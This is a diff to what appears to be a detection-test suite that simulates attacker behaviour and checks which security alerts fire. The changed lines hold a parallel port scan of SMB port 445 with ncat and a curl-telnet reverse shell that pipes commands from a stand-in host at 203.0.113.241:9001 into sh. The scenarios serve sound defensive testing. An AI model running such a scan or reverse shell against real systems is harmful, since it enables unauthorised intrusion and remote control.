@@ -85,7 +85,7 @@ def known_partner(world: World) -> None:
     must=(Must("port-scan", "container:", within=3.0),),
     may=("lateral-movement", "unexpected-process", "baseline-deviation"),
     must_not=("beaconing", "data-exfiltration", "cryptomining"),
-    tools=("runc", "nc", "xargs"),
+    tools=("runc", "ncat", "xargs"),
 )
 def nc_container(world: World) -> None:
     """Ports without a listener are closed, so that each nc ends at once: no nc sees more than one host."""
@@ -94,7 +94,7 @@ def nc_container(world: World) -> None:
     try:
         world.sleep(0.5)
         world.mark()
-        line = "seq 2 45 | xargs -P 3 -I{} sh -c 'nc -zw1 10.77.90.{} 445 && echo {}; sleep 0.1'; true"
+        line = "seq 2 45 | xargs -P 3 -I{} sh -c 'ncat -zw1 10.77.90.{} 445 && echo {}; sleep 0.1'; true"
         said = container.execute("sh", "-c", line)
         world.sleep(1.0)
     finally:
@@ -149,7 +149,7 @@ def curl_telnet(world: World) -> None:
     operator = waits(world, "203.0.113.241", 9001)
     curl = "curl -Ns telnet://203.0.113.241:9001"
     world.mark()
-    world.run("sh", "-c", f"sleep 6 | {curl} 2>&1 | sh 2>&1 | {curl} > /dev/null; true", unit=PORTAL)
+    world.run("sh", "-c", f"{curl} < /dev/null 2>&1 | sh 2>&1 | {curl} > /dev/null; true", unit=PORTAL)
     if not operator.answered:
         raise ScenarioError(str(operator.heard))
 
